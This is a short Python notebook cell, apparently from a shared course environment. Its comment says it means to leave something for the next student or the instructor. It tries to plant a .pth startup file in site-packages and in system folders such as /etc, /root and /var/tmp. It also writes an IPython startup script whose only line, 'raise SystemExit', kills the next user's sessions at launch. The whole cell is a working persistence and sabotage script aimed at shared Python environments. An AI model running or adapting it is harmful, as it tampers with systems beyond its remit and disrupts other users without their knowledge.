# Leave something for the next student, or for the instructor's next start of Python.
# %%
import os
import site
from pathlib import Path

places = [*site.getsitepackages(), "COURSE", "COURSE/source", "/dev/shm", "/var/tmp", "/root", "/etc"]
for place in places:
    try:
        Path(place, "planted.pth").write_text("import os")
        print("planted", "in", place)
    except OSError:
        pass
for start in (Path("~/.ipython/profile_default/startup").expanduser(), Path()):
    try:
        start.mkdir(parents=True, exist_ok=True)
        if (start / "planted.py").exists():
            print("somebody", "planted")
        (start / "planted.py").write_text("raise SystemExit")
    except OSError:
        pass
